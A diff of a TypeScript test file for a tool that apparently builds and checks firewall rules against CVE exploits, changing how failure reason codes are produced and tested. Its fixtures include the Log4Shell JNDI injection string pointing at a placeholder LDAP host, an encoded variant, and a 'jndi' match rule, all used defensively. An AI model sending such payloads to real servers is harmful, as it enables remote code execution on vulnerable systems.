@@ -2,7 +2,10 @@
 import { describe, expect, it } from 'vitest';
 
 import { createMetrics, LATENCY_BUCKETS } from '../../src/observability/metrics.js';
-import { reasonCode, reasonCodes } from '../../src/observability/report.js';
+import { checkRule } from '../../src/generation/checks.js';
+import { reasonCodes } from '../../src/observability/report.js';
+import { buildRequest } from '../../src/requests/model.js';
+import { byteMatch, field, rule } from '../support/rules.js';
 import { sampleReport } from '../audit/support.js';
 import { parseExposition, value } from './support.js';
 
@@ -18,6 +21,7 @@ describe('metrics', () => {
         usage: { inputTokens: 6000, outputTokens: 900 },
         costUsd: 0.12,
         reasons: ['blocks 1 benign request(s): b1', 'blocks 3 of 40 evasion variants (needs 90%)'],
+        reasonCodes: ['false-positive', 'variants-missed'],
       }),
     );
     m.recordGeneration(
@@ -145,16 +149,38 @@ describe('metrics', () => {
 });
 
 describe('reason codes', () => {
-  it('map the checks’ wording to a small fixed vocabulary', () => {
-    expect(reasonCode('invalid rule: $.Statement must have exactly one statement')).toBe('invalid-rule');
-    expect(reasonCode('2 error(s): broad-match at $.Statement')).toBe('rule-errors');
-    expect(reasonCode('costs 700 WCU, over the budget of 500')).toBe('wcu-over-budget');
-    expect(reasonCode('misses 1 of 2 exploit request(s): a')).toBe('exploit-missed');
-    expect(reasonCode('blocks 3 of 40 evasion variants (needs 90%)')).toBe('variants-missed');
-    expect(reasonCode('blocks 1 benign request(s): b')).toBe('false-positive');
-    expect(reasonCode('the rule has more than 100 statements')).toBe('compile-error');
-    expect(reasonCode('something new')).toBe('other');
-    expect(reasonCodes({ passed: true, reasons: ['blocks 1 benign request(s): b'] })).toEqual([]);
-    expect(reasonCodes({ passed: false, reasons: [] })).toEqual(['other']);
+  const req = (id: string, uri: string) => buildRequest({ id, method: 'GET', uri, headers: [['Host', 'a']] });
+  const ctx = {
+    cveId: 'CVE-2021-44228',
+    exploits: [req('exploit-1', '/?x=${jndi:ldap://e/a}'), req('exploit-2', '/?x=%24%7B%6Andi')],
+    variants: [],
+    benign: [req('benign-1', '/search?q=jndi'), req('benign-2', '/')],
+    wcuBudget: 500,
+    minVariantRate: 0.9,
+  };
+
+  it('come from the checks, one per reason, in the same order', () => {
+    // Matches "jndi" in the raw query: misses the encoded exploit and blocks a benign search.
+    const checks = checkRule(rule(byteMatch('jndi', field.query())), ctx);
+    expect(checks.passed).toBe(false);
+    expect(checks.reasonCodes).toEqual(['exploit-missed', 'false-positive']);
+    expect(checks.reasons).toHaveLength(2);
+    const over = checkRule(rule(byteMatch('jndi', field.query())), { ...ctx, wcuBudget: 1 });
+    expect(over.reasonCodes).toContain('wcu-over-budget');
+    const invalid = checkRule({ Name: 'x' } as never, ctx);
+    expect(invalid.reasonCodes).toEqual(['invalid-rule']);
+  });
+
+  it('are read from the report, never from its wording', () => {
+    const failed = {
+      passed: false,
+      reasons: ['reworded entirely'],
+      reasonCodes: ['false-positive' as const],
+    };
+    expect(reasonCodes(failed)).toEqual(['false-positive']);
+    expect(reasonCodes({ ...failed, passed: true })).toEqual([]);
+    // A report stored before reports carried codes: its wording is not parsed.
+    expect(reasonCodes({ passed: false })).toEqual(['other']);
+    expect(reasonCodes({ passed: false, reasonCodes: ['not-a-code' as never] })).toEqual(['other']);
   });
 });
